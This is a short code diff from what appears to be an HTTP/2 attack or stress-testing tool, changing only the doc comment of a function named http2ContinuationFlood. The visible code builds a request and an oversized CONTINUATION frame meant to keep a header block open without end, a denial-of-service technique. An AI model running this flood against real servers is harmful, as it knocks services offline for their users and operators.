@@ -1,7 +1,7 @@
 import { type AttackOptions, onEachConnection, write } from "./attack.ts";
 import { field, frame, frameType, preface, requestFields } from "./http2-frames.ts";
 
-/** Begins a header block and continues it without end. */
+/** Starts a header block and continues it endlessly. */
 export function http2ContinuationFlood(options: AttackOptions): Promise<void> {
   const request = requestFields("GET", options.path ?? "/mutate");
   const more = frame(frameType.continuation, 0, 1, field("x", "x".repeat(8192)));
